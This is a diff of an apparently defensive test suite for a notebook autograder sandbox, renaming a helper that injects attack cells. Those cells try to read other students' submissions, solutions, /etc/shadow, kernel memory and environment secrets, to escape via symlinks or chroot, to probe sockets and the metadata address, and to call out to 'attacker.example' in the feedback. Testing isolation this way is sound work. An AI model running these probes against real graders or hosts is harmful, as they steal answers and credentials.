@@ -6,21 +6,16 @@ appear in any output. The answers are right and keep their points.
 
 import functools
 
-from submissions.attacking import TOOLS
+from submissions.attacking import CLASS, TOOLS, tries
 from submissions.making import FULL, RIGHT, WITHOUT_TOKEN_MASK, Work, case
 
 leak = functools.partial(case, outcome="graded", score=FULL, attack="leaks")
 
 
-def looks(work: Work, code: str) -> None:
-    """An added cell that looks around."""
-    work.add(TOOLS + code, below="imports")
-
-
 @leak()
 def reads_the_neighbours(work: Work) -> None:
     """Other submissions, the course's state, the home folder, by their paths."""
-    looks(
+    tries(
         work,
         "for target in TARGETS:\n"
         "    attempt(lambda: os.listdir(target), lambda: open(target + '/canary.txt').read(),\n"
@@ -31,7 +26,7 @@ def reads_the_neighbours(work: Work) -> None:
 @leak()
 def reads_the_project(work: Work) -> None:
     """Solutions, misconceptions, ledger, secret, gradebook, engine and published examples."""
-    looks(
+    tries(
         work,
         "for name in ('solutions', 'solutions/misconceptions', '.spotlight', '.spotlight/secret', '.spotlight/ledger',\n"
         "             'course/gradebook.db', 'course/submitted', 'course/source', 'course/autograded', 'autograder',\n"
@@ -43,7 +38,7 @@ def reads_the_project(work: Work) -> None:
 @leak()
 def reads_by_links(work: Work) -> None:
     """Links to the targets, made here or handed in beside the notebook (the test puts some there)."""
-    looks(
+    tries(
         work,
         "for number, target in enumerate(TARGETS):\n    os.symlink(target, f'link-{number}')\n"
         "    attempt(lambda: os.link(target + '/canary.txt', f'hard-{number}'))\n"
@@ -56,7 +51,7 @@ def reads_by_links(work: Work) -> None:
 @leak()
 def climbs_out_of_its_root(work: Work) -> None:
     """`..` above the root, chroot, a folder kept open, mounts, file handles."""
-    looks(
+    tries(
         work,
         "here = os.open('/', os.O_RDONLY)\n"
         "attempt(lambda: os.chroot('/tmp'), lambda: libc.mount(b'/', b'/tmp', None, 4096, None) + 1 or 1 / 0)\n"
@@ -69,7 +64,7 @@ def climbs_out_of_its_root(work: Work) -> None:
 @leak()
 def reads_other_processes(work: Work) -> None:
     """/proc holds this shell's processes alone: no environment, memory, root or open file of anybody else."""
-    looks(
+    tries(
         work,
         "mine = {1, os.getpid(), os.getppid()}\n"
         "for name in os.listdir('/proc'):\n    if name.isdigit() and int(name) not in mine:\n        won(name)\n"
@@ -83,7 +78,7 @@ def reads_other_processes(work: Work) -> None:
 @leak()
 def reads_the_kernel(work: Work) -> None:
     """Kernel memory and log, keys, other mounts, disks."""
-    looks(
+    tries(
         work,
         "for path in ('/proc/kcore', '/proc/kmsg', '/dev/mem', '/dev/kmsg', '/dev/sda', '/dev/vda', '/dev/tty',\n"
         "             '/dev/ptmx', '/proc/1/mountinfo/..', '/sys/kernel', '/etc/shadow', '/etc/machine-id', '/etc/hosts'):\n"
@@ -96,7 +91,7 @@ def reads_the_kernel(work: Work) -> None:
 @leak()
 def reads_the_environment(work: Work) -> None:
     """The grader's environment holds passwords (the test puts one there); a shell gets another one."""
-    looks(
+    tries(
         work,
         "print(dict(os.environ))\nfor each in ('self', '1'):\n"
         "    try:\n        print(open(f'/proc/{each}/environ').read())\n    except OSError:\n        pass\n"
@@ -108,7 +103,7 @@ def reads_the_environment(work: Work) -> None:
 @leak()
 def searches_the_heap(work: Work) -> None:
     """The warm process has imported the engine: it must have loaded no answer, no key and no secret."""
-    looks(
+    tries(
         work,
         "from autograder import keys\n"
         "for name, module in list(sys.modules.items()):\n"
@@ -128,7 +123,7 @@ def searches_the_heap(work: Work) -> None:
 @leak()
 def searches_the_stack(work: Work) -> None:
     """The frames below its own belong to the fork server; they hold its socket, and nothing to tell."""
-    looks(
+    tries(
         work,
         "frame, words = sys._getframe(), []\nwhile frame:\n"
         "    if 'autograder' in frame.f_code.co_filename:\n        words.append(repr(frame.f_locals))\n"
@@ -140,7 +135,7 @@ def searches_the_stack(work: Work) -> None:
 @leak()
 def uses_what_is_open(work: Work) -> None:
     """Of the server's files only the shell's own line is open: no pipe, no listening socket, no folder."""
-    looks(
+    tries(
         work,
         "for number in range(4096):\n"
         "    try:\n        kind = os.fstat(number)\n    except OSError:\n        continue\n"
@@ -153,11 +148,11 @@ def uses_what_is_open(work: Work) -> None:
 @leak()
 def talks_to_the_fork_server(work: Work) -> None:
     """Its socket and the other shells' folders are not in this world, and abstract names neither."""
-    looks(
+    tries(
         work,
         "for path in glob.glob('/tmp/**', recursive=True) + glob.glob('/run/**') + glob.glob('/var/**'):\n"
         "    if path.endswith('/socket') or 'shell-' in path:\n        won(path)\n"
-        "for path in glob.glob('/tmp/spotlight-*/socket') + ['\\0attacked-class']:\n"
+        f"for path in glob.glob('/tmp/spotlight-*/socket') + ['\\0{CLASS.name}']:\n"
         "    for kind in (socket.SOCK_SEQPACKET, socket.SOCK_STREAM):\n"
         "        attempt(lambda: socket.socket(socket.AF_UNIX, kind).connect(path))\n",
     )
@@ -166,7 +161,7 @@ def talks_to_the_fork_server(work: Work) -> None:
 @leak()
 def reaches_the_network(work: Work) -> None:
     """The internet, this machine (the test listens on PORTS), names, raw packets, and the line to a host."""
-    looks(
+    tries(
         work,
         "ports = [int(line) for line in open('ports.txt')]\n"
         "for host in ('127.0.0.1', '::1', 'localhost', '0.0.0.0', '192.0.2.1', '10.0.0.1', '169.254.169.254'):\n"
@@ -197,7 +192,7 @@ NOTE = "a note for the next student"
 @leak()
 def leaves_a_note(work: Work) -> None:
     """Files, shared memory and clipboard of this shell end with it: the next case must not find the note."""
-    looks(
+    tries(
         work,
         "for folder in ('/tmp', '/dev/shm', '/', os.getcwd(), '/var/tmp', '/run', sys.prefix, '/etc', '/home'):\n"
         f"    try:\n        open(folder + '/note.txt', 'w').write({NOTE[:6]!r} + {NOTE[6:]!r})\n"
@@ -210,7 +205,7 @@ def leaves_a_note(work: Work) -> None:
 @leak()
 def looks_for_a_note(work: Work) -> None:
     """What the case before left, in files or in the modules that all shells share."""
-    looks(
+    tries(
         work,
         "import spotlight, autograder\n"
         "for folder in ('/tmp', '/dev/shm', '/', os.getcwd(), '/var/tmp', '/run', sys.prefix, '/etc', '/home'):\n"
@@ -248,7 +243,7 @@ def a_failure_that_tells(work: Work) -> None:
 @leak()
 def calls_home_from_the_feedback(work: Work) -> None:
     """Scripts, styles and pictures with addresses, in every output format: text and PNG are all that is kept."""
-    looks(
+    tries(
         work,
         "from IPython.display import HTML, SVG, Javascript, Markdown, Latex, display, publish_display_data\n"
         "address = '//attacker.example/x'\n"
